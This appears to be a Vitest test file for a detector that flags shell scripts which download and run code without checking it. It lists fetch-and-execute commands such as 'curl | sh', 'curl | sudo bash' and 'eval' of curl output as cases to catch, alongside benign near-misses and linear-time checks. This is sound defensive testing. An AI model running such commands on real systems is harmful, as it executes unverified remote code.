import { expect, it } from "vitest";
import { expectLinearTime } from "../../test/linear-time.ts";
import { unverifiedCode } from "./downloads.ts";

it.each([
  "curl -fsSL https://example.com/i.sh | sh",
  "curl -s https://example.com/i.sh | sudo bash -s -- --yes",
  "wget -qO- https://example.com/i.sh | tee log | bash",
  "curl https://example.com/i.py | python3 -",
  "bash <(curl -s https://example.com/i.sh)",
  'sh -c "$(curl -fsSL https://example.com/i.sh)"',
  'eval "$(curl https://example.com/i.sh)"',
  "curl -fsSL -o /tmp/i.sh https://example.com/i.sh && sh /tmp/i.sh",
  "wget https://example.com/tool; chmod +x tool; ./tool",
  "curl -LO https://example.com/tool\nbash tool",
])("finds %s", (script) => expect(unverifiedCode(script)).toBeDefined());

it.each([
  "curl -fsSL https://example.com/data.json | jq .",
  "curl https://example.com/i.sh -o i.sh",
  "echo curl | sh",
  "cat i.sh | sh",
  "curl -o i.sh https://example.com/i.sh\necho 0a1b i.sh | sha256sum -c -\nsh i.sh",
  "curl https://example.com/data | python3 convert.py",
  "curl -o data.tgz https://example.com/data.tgz && tar xf data.tgz",
  "bash run.sh",
  "",
])("finds nothing in %s", (script) => expect(unverifiedCode(script)).toBeUndefined());

it.each(["curl a | ", "bash <(", "$(", "sh -c ", "curl -o a b;", "|"])(
  "reads hostile scripts of %j in linear time",
  (piece) => expectLinearTime(piece, 100_000, unverifiedCode),
);
